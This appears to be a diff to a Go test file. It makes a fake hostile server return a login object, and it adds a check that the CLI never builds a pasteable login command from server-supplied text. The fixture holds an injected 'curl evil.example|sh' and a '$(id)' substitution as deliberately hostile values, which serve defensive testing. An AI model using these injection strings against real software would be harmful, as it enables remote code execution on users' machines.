@@ -13,6 +13,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"sync/atomic"
@@ -263,7 +264,8 @@ func hostileDaemon(t *testing.T, tls bool) string {
 		case "GET /api/v1/tokens":
 			answer(200, []any{info})
 		case "POST /api/v1/tokens":
-			answer(201, map[string]any{"name": hostile, "scope": hostile, "token": hostile, "created_at": "2024-01-01T00:00:00Z"})
+			login := map[string]string{"server": "https://evil.example:6443; curl evil.example|sh #" + hostile, "ca_sha256": "$(id)"}
+			answer(201, map[string]any{"name": hostile, "scope": hostile, "token": hostile, "created_at": "2024-01-01T00:00:00Z", "login": login})
 		case "GET /api/v1/version":
 			answer(200, map[string]string{"version": hostile, "api": hostile})
 		case "DELETE /api/v1/tokens/text":
@@ -316,6 +318,9 @@ func TestCLIEscapesServerText(t *testing.T) {
 			}
 			if strings.HasSuffix(args[len(args)-1], "--json") && r.code == 0 && !json.Valid([]byte(r.stdout)) {
 				t.Errorf("--json output is not JSON: %q", r.stdout)
+			}
+			if slices.Equal(args[len(args)-2:], []string{"create", "x"}) && (strings.Contains(r.stderr, "helyos login") || !strings.Contains(r.stderr, "no login line")) {
+				t.Errorf("a login line to paste was built from the server's text:\n%s", r.stderr)
 			}
 		})
 	}
